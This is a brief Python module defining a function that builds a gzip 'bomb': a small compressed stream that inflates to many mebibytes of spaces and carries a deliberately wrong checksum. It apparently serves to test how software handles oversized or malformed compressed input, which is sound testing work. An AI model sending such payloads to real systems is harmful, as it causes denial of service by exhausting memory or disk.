"""Small bodies that become large, made without ever holding what they become."""

import zlib

MEBIBYTE = 2**20


def gzip_bomb(mebibytes):
    """One gzip member of this many MiB of blanks; its checksum, at the end, is wrong."""
    deflater = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = deflater.compress(b" " * MEBIBYTE) + deflater.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + piece * mebibytes + deflater.flush() + bytes(8)
